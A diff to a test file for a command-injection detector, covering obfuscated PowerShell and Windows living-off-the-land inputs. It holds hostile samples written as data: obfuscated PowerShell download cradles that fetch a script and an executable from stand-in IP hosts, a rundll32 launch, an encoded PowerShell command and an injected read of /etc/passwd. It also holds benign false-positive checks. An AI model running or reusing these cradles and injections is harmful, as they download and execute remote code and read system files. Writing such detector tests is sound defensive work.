@@ -485,6 +485,7 @@ describe('Windows living-off-the-land and obfuscated PowerShell', () => {
     'x&rundll32 shell32.dll,ShellExec_RunDLL calc',
     "i`e`x (N`ew-Ob`je`ct Ne`t.We`bCl`ient).('Down'+'loadStr'+'ing').Invoke('http://203.0.113.77/a.ps1')",
     'p`owershell -e`nc SQBFAFgA',
+    "$wc=New-Object ('Net.'+'WebClient');$wc.('Down'+'loadFile')('http://203.0.113.7/a.exe','a.exe')",
     // unset variables glued to words, a quoted variable as an argument, expr's arithmetic probe
     'example.org;cat$u /etc$u/passwd$u',
     '& dir "%PROGRAMFILES%"',
@@ -498,6 +499,10 @@ describe('Windows living-off-the-land and obfuscated PowerShell', () => {
     expect(score(commandInjectionPack, 'the crash is in shell32.dll, see \\\\fileserver\\logs')).toBe(0);
     expect(score(commandInjectionPack, 'run `npm` and `yarn`+`pnpm` in CI')).toBe(0);
     expect(score(commandInjectionPack, 'costs price$usd /month; expr 3 + 4 is seven')).toBe(0);
+    // Joined strings are any language's: only PowerShell's own cradles count once joined
+    expect(score(commandInjectionPack, 'String s = "/bin/" + "sh";')).toBe(0);
+    // A quote before an argument counts for a variable or a share only, not for quoted prose
+    expect(score(commandInjectionPack, 'Hello\nFind "/settings" page and click')).toBe(0);
     // SQL's comparisons are no redirections: a query pasted on its own lines
     expect(score(commandInjectionPack, "select id\nfrom orders o\nwhere o.created_at >= '2023-01-01';\nIs it the join?")).toBe(0);
   });
